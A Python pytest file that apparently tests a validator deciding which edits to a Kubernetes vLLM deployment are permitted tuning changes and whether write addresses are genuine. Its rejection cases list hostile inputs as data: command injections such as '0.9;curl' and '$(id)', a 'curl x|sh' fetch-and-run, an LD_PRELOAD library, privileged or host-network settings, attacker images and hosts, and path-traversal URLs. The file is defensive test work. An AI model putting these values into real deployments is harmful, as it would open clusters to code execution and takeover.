"""What a write may touch: what planners write passes, whatever else a forged row asks for does not."""

from __future__ import annotations

from dataclasses import replace

import pytest

from controller.changes.reach import Touched, misled, touched
from tierdeck.changes.plan import ABSENT, FieldEdit, Json, Surface, Write
from tierdeck.deployed import ObjectRef

CHAT = ObjectRef("Deployment", "inference", "chat")
ADDRESS = "/apis/apps/v1/namespaces/inference/deployments/chat"
VLLM = ("spec", "template", "spec", "containers", "[name=vllm]")


def write(path: tuple[str, ...], before: Json, after: Json) -> Write:
    return Write(CHAT, ADDRESS, "apps/v1", (FieldEdit(path, before, after),))


@pytest.mark.parametrize(
    ("path", "before", "after", "expected"),
    [
        (
            (*VLLM, "args"),
            ["--model", "m", "--gpu-memory-utilization", "0.9"],
            ["--model", "m", "--gpu-memory-utilization", "0.85"],
            [Touched("--gpu-memory-utilization", "0.85")],
        ),
        (
            (*VLLM, "args"),
            ["--model=m"],
            ["--model=m", "--kv-cache-memory-bytes=9"],
            [Touched("--kv-cache-memory-bytes", "9")],
        ),
        ((*VLLM, "args"), ["--kv_cache_memory_bytes", "9", "--model"], ["--model"], []),
        (
            (*VLLM, "command"),
            ["sh", "-c", "exec vllm serve m --gpu-memory-utilization 0.9 --port 8000"],
            ["sh", "-c", "exec vllm serve m --gpu-memory-utilization 0.8 --port 8000"],
            [Touched("--gpu-memory-utilization", "0.8")],
        ),
        (
            (*VLLM, "env", "[name=LMCACHE_MAX_LOCAL_CPU_SIZE]", "value"),
            "5",
            "40",
            [Touched("LMCACHE_MAX_LOCAL_CPU_SIZE", "40")],
        ),
        (
            (*VLLM, "env", "[name=SESSION_KEY]"),
            ABSENT,
            {"name": "SESSION_KEY", "value": "x-user"},
            [Touched("SESSION_KEY", "x-user")],
        ),
        (
            (*VLLM, "env", "[name=SESSION_KEY]"),
            {"name": "SESSION_KEY", "value": "x"},
            ABSENT,
            [Touched("SESSION_KEY", ABSENT)],
        ),
        (
            ("spec", "worker", "environmentVariables"),
            [{"name": "HF_TOKEN", "value": "a"}, {"name": "LMCACHE_MAX_LOCAL_CPU_SIZE", "value": "5"}],
            [{"name": "HF_TOKEN", "value": "a"}, {"name": "LMCACHE_MAX_LOCAL_CPU_SIZE", "value": "6"}],
            [Touched("LMCACHE_MAX_LOCAL_CPU_SIZE", "6")],
        ),
        ((*VLLM, "resources", "limits", "memory"), "64Gi", "99Gi", [Touched("memory", "99Gi")]),
        (
            (*VLLM, "resources"),
            {"limits": {"memory": "1Gi"}},
            {"limits": {"memory": "2Gi"}},
            [Touched("memory", "2Gi")],
        ),
        (
            ("spec", "intelligentRoutingSpec", "routingStrategy"),
            "session",
            "kvaware",
            [Touched("routingStrategy", "kvaware")],
        ),
        (
            ("data", "dynamic_config.json"),
            '{"routing_logic": "a", "x": 1}',
            '{"routing_logic": "b", "x": 1}',
            [Touched("routing_logic", "b")],
        ),
        (("spec", "podAnnotations", "tierdeck.io/change"), ABSENT, "12", [Touched("tierdeck.io/change", "12")]),
        (("limit_gb",), ABSENT, 12.5, [Touched("limit_gb", 12.5)]),
        (("spec", "l1", "sizeGB"), 10, 12, [Touched("sizeGB", 12)]),
        (
            (*VLLM, "args"),
            ["server", "--l2-adapter", '{"type": "fs", "max_capacity_gb": 5}', "--port", "1"],
            ["server", "--l2-adapter", '{"type": "fs", "max_capacity_gb": 6.5}', "--port", "1"],
            [Touched("max_capacity_gb", 6.5)],
        ),
        (("spec", "replicas"), 3, 4, [Touched("replicas", 4)]),
    ],
)
def test_what_planners_write_passes(path: tuple[str, ...], before: Json, after: Json, expected: list[Touched]) -> None:
    assert touched(write(path, before, after)) == expected


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ((*VLLM, "image"), "vllm:1", "evil:1"),
        ((*VLLM, "args"), ["--model", "m"], ["--model", "other"]),
        ((*VLLM, "args"), ["--model", "m"], ["--model", "m", "--trust-remote-code"]),
        ((*VLLM, "args"), ["serve"], ["serve", "--gpu-memory-utilization", "0.9;curl"]),
        ((*VLLM, "args"), ["serve"], ["serve", "--gpu-memory-utilization", "$(id)"]),
        ((*VLLM, "command"), ["sh", "-c", "vllm serve m"], ["sh", "-c", "curl x|sh; vllm serve m"]),
        (
            (*VLLM, "args"),
            ["--l2-adapter", '{"base_path": "/a", "max_capacity_gb": 5}'],
            ["--l2-adapter", '{"base_path": "/etc", "max_capacity_gb": 5}'],
        ),
        ((*VLLM, "args"), ["--other", '{"max_capacity_gb": 5}'], ["--other", '{"max_capacity_gb": 6}']),
        ((*VLLM, "command"), ["vllm"], "sh"),
        ((*VLLM, "env", "[name=LD_PRELOAD]", "value"), ABSENT, "/tmp/x.so"),
        (
            (*VLLM, "env", "[name=SESSION_KEY]"),
            ABSENT,
            {"name": "SESSION_KEY", "valueFrom": {"secretKeyRef": {"name": "s"}}},
        ),
        ((*VLLM, "env", "[name=SESSION_KEY]", "value"), "a", "$(SECRET)"),
        (
            ("spec", "worker", "environmentVariables"),
            [{"name": "HF_TOKEN", "value": "a"}],
            [{"name": "HF_TOKEN", "value": "b"}, {"name": "SESSION_KEY", "value": "x"}],
        ),
        ((*VLLM,), {"name": "vllm", "image": "a"}, {"name": "vllm", "image": "b"}),
        ((*VLLM, "resources", "limits", "nvidia.com/gpu"), "1", "8"),
        ((*VLLM, "securityContext", "privileged"), ABSENT, True),
        (("spec", "template", "spec", "hostNetwork"), ABSENT, True),
        (("spec", "template", "spec", "serviceAccountName"), "a", "admin"),
        (("spec", "template", "spec", "containers", "[name=extra]"), ABSENT, {"name": "extra", "image": "evil"}),
        (("spec", "template", "spec", "containers", "[name=memory]"), ABSENT, 3),
        (("metadata", "annotations", "iam.amazonaws.com/role"), ABSENT, "admin"),
        (
            ("data", "dynamic_config.json"),
            '{"routing_logic": "a"}',
            '{"routing_logic": "a", "static_backends": "http://evil"}',
        ),
        (("data", "script.sh"), "a", "b"),
        (("spec", "invocationEndpoint"), "invocations", "completions"),
        ((), {}, {"spec": {"replicas": 0, "paused": True}}),
    ],
)
def test_whatever_else_a_row_asks_for_does_not(path: tuple[str, ...], before: Json, after: Json) -> None:
    found = touched(write(path, before, after))
    assert isinstance(found, str), found
    assert "no change of Tierdeck's" in found


@pytest.mark.parametrize(
    ("address", "version"),
    [
        ("/api/v1/namespaces/inference/secrets/chat", "v1"),
        ("/apis/apps/v1/namespaces/kube-system/deployments/chat", "apps/v1"),
        ("/apis/apps/v1/namespaces/inference/deployments/other", "apps/v1"),
        ("/apis/apps/v1/namespaces/inference/deployments/chat/scale", "apps/v1"),
        ("/apis/apps/v1/namespaces/inference/deployments/../../x", "apps/v1"),
        ("/apis/evil.io/v1/namespaces/inference/deployments/chat", "apps/v1"),
        ("http://elsewhere/apis/apps/v1/namespaces/inference/deployments/chat", "apps/v1"),
    ],
)
def test_a_write_goes_where_it_says_that_it_goes(address: str, version: str) -> None:
    one = write(("spec", "replicas"), 1, 2)
    assert misled(one) == ""
    assert misled(replace(one, address=address, api_version=version))
    assert misled(replace(one, address="http://lab/admin", surface=Surface.LAB)) == ""
    quota = replace(one, ref=ObjectRef("LMCacheQuota", "a", "c/x"), surface=Surface.LMCACHE_QUOTA, api_version="")
    assert misled(replace(quota, address="http://10.0.0.7:9300/quota/x")) == ""
    for wrong in (
        "http://10.0.0.7:9300/quota/x/../../admin",
        "http://a@b/quota/x",
        "file:///quota/x",
        "http://b/x?/quota/x",
    ):
        assert misled(replace(quota, address=wrong))
    core = replace(one, ref=ObjectRef("ConfigMap", "a", "b"), api_version="v1")
    assert misled(replace(core, address="/api/v1/namespaces/a/configmaps/b")) == ""


@pytest.mark.parametrize("name", ["..", "chat?dryRun=All&", "chat%2Fscale", "chat#", "chat/scale", ""])
def test_a_name_leads_nowhere_else(name: str) -> None:
    one = replace(write(("spec", "replicas"), 1, 2), ref=ObjectRef("Deployment", "inference", name))
    assert misled(replace(one, address=f"/apis/apps/v1/namespaces/inference/deployments/{name}"))
